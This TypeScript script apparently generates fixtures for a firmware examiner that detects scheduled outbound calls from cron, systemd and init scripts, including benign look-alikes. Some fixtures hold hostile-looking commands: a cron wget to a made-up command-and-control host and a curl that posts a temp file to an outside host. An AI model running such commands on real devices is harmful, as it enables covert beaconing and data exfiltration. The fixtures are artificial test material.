// node examples/examine/scheduled-call-out/make.ts: writes the inputs of the examiner of calls by the clock.
import type { EndpointObservation, EndpointRole, EndpointTaker, StartObservation } from '#domain/observation';
import { declaration, matrixRow, seenIn, writeSights } from '../../sightings.ts';

const command = (name: string): EndpointTaker => ({ kind: 'command', name });

function address(path: string, host: string, taker: EndpointTaker | null, role: EndpointRole = 'unknown') {
  const form: EndpointObservation['form'] = /^[\d.]+$/.test(host) ? 'ipv4' : 'host';
  return seenIn(path, { kind: 'endpoint', form, value: host, host, port: null, scheme: null, role, taker });
}

function timed(path: string, program: string, args: readonly string[], facts: Partial<StartObservation> = {}) {
  return seenIn(path, {
    kind: 'start',
    by: 'cron',
    program,
    arguments: args,
    user: 'root',
    chain: ['etc/inittab', path],
    condition: '*/5 * * * *',
    reached: true,
    present: true,
    ...facts,
  });
}

writeSights(import.meta.dirname, {
  'line-of-cron': {
    note: 'The line of cron holds the address itself.',
    sightings: [
      timed('etc/crontabs/root', 'wget', ['-q', 'http://c2.made-up.cn/x']),
      address('etc/crontabs/root', 'c2.made-up.cn', command('wget')),
    ],
  },
  'script-and-program': {
    note: 'A script that cron runs sets the address in a variable and a command takes it, under one more condition; a program that a timer runs\nholds one and can connect.',
    sightings: [
      timed('usr/bin/report.sh', 'curl', ['-d', '@/tmp/s', 'http://$HOST/up'], {
        chain: ['etc/crontabs/root', 'usr/bin/report.sh'],
        condition: '17 3 * * *; if [ -f /tmp/s ]',
      }),
      address('usr/bin/report.sh', 'stat.made-up.cn', { kind: 'setting', name: 'HOST' }, 'telemetry'),
      timed('lib/systemd/system/beat.service', '/usr/sbin/beat', [], { by: 'systemd', condition: 'OnUnitActiveSec=1h' }),
      address('usr/sbin/beat', '45.33.32.156', { kind: 'program', name: 'connect' }),
    ],
  },
  'look-alikes': {
    note: 'A schedule that calls nobody, one to an address inside, one for time, one that nothing runs, an address in another script, a setting\nthat no command takes, a start without a schedule.',
    sightings: [
      timed('etc/crontabs/root', '/usr/bin/rotate', []),
      timed('etc/crontabs/root', 'ping', ['192.168.1.1']),
      address('etc/crontabs/root', '192.168.1.1', command('ping')),
      timed('etc/crontabs/root', 'ntpd', ['-q', '-p', 'ntp.made-up.cn']),
      address('etc/crontabs/root', 'ntp.made-up.cn', command('ntpd'), 'time'),
      timed('etc/cron.d/off', 'wget', ['http://off.made-up.cn'], { reached: false }),
      address('etc/cron.d/off', 'off.made-up.cn', command('wget')),
      timed('usr/bin/a.sh', 'wget', ['http://$URL']),
      address('usr/bin/b.sh', 'b.made-up.cn', { kind: 'setting', name: 'URL' }),
      address('usr/bin/a.sh', 'a.made-up.cn', { kind: 'setting', name: 'OTHER' }),
      timed('etc/init.d/S1', 'wget', ['http://s.made-up.cn'], { by: 'rc', condition: null }),
      address('etc/init.d/S1', 's.made-up.cn', command('wget')),
    ],
  },
  declared: {
    note: 'One destination is declared; of the other only the kind of flow.',
    sightings: [
      timed('etc/crontabs/root', 'wget', ['http://fw.made-up.cn/x']),
      address('etc/crontabs/root', 'fw.made-up.cn', command('wget'), 'update'),
      timed('etc/crontabs/root', 'curl', ['http://log.made-up.org/x']),
      address('etc/crontabs/root', 'log.made-up.org', command('curl'), 'telemetry'),
    ],
    declaration: declaration({
      matrix: [
        matrixRow({ to: { device: null, address: 'fw.made-up.cn', port: { kind: 'any' } } }),
        matrixRow({ application: 'log export' }),
      ],
    }),
  },
});
